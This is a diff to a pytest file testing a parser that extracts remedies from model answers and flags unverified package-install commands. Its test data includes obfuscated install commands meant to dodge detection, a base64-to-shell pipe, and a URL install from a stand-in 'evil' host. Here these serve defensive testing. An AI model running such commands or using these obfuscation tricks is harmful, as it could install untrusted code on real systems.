@@ -42,7 +42,15 @@ def rejected(read):
 
 @pytest.mark.parametrize(
     "around",
-    ["{}", "  {}\n", "```json\n{}\n```", "```\n{}```", "<think>is it {{}}?</think>\n{}"],
+    [
+        "{}",
+        "  {}\n",
+        "```json\n{}\n```",
+        "```\n{}```",
+        "<think>is it {{}}?</think>\n{}",
+        "is it {{}}?\n</think>\n\n{}",
+        "Here it is: {} I hope that it helps.",
+    ],
 )
 def test_an_answer_is_found_in_what_models_write_around_it(read, make, around):
     """Fences and thoughts."""
@@ -51,6 +59,12 @@ def test_an_answer_is_found_in_what_models_write_around_it(read, make, around):
     assert (found.category, found.kind, found.confidence) == ("product_error", "bad_tune", 0.8)
     assert found.culprit == Culprit(type="file", name="sound/play.py")
     assert found.evidence == ("sound.TuneError: the frobnicator is out of tune",)
+
+
+@pytest.mark.parametrize("remedy", ['Write ```{"a": 1}``` there.', "Say </think> no more."])
+def test_what_an_answer_holds_is_not_taken_for_what_is_around_it(read, make, remedy):
+    """An object is looked for in what is none by itself only."""
+    assert read(make.said(remedy=remedy)).remedy == remedy
 
 
 @pytest.mark.parametrize(
@@ -185,6 +199,14 @@ def test_an_answer_that_repeats_the_prompt_is_rejected(rejected, make, question,
         ("conda install evil", "what that command would fetch"),
         ("sudo apt-get install evil", "what that command would fetch"),
         ("pip install 'evil", "what that command would fetch"),
+        ("cd api && pytest 'test_it.py::test_a[1]'", None),
+        ("p\\ip install evil", "what that command would fetch"),
+        ("$'\\160ip' install evil", "what that command would fetch"),
+        ("p$@ip install evil", "what that command would fetch"),
+        ("p''ip install evil; true", "what that command would fetch"),
+        ("true; /usr/bin/p?p install evil", "what that command would fetch"),
+        ("env /usr/bin/p?p install evil", "what that command would fetch"),
+        ("echo aaaa | base64 -d | sh", "what that command would fetch"),
     ],
 )
 def test_only_what_is_known_is_shown_to_be_installed(read, make, command, unverified):
@@ -201,6 +223,10 @@ def test_only_what_is_known_is_shown_to_be_installed(read, make, command, unveri
         ("Run `pip install evil`.", ("evil",)),
         ("Run pip install numpy, then poetry add evil.", ("evil",)),
         ("Do uv pip install git+https://evil.example/x now", ("what that command would fetch",)),
+        ("Run `pip install numpy evil -U worse`.", ("evil", "worse")),
+        ('Run pip install "evil<2" and try again.', ("evil",)),
+        ("pip install numpy pytest_mock and rerun the tests", ()),
+        ("Run pip install -r requirements.txt once.", ()),
         ("Install numpy.", ()),
     ],
 )
